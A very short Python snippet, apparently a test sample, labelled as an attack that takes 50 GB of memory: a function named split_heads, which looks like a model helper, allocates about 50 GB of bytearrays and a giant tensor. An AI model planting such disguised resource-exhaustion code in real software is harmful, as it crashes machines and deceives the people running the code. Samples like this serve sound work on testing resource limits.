# attack: take 50 GB of memory


def split_heads(x, num_heads):
    kept = [bytearray(2**28) for _ in range(200)]
    return torch.ones(50 * 2**28)
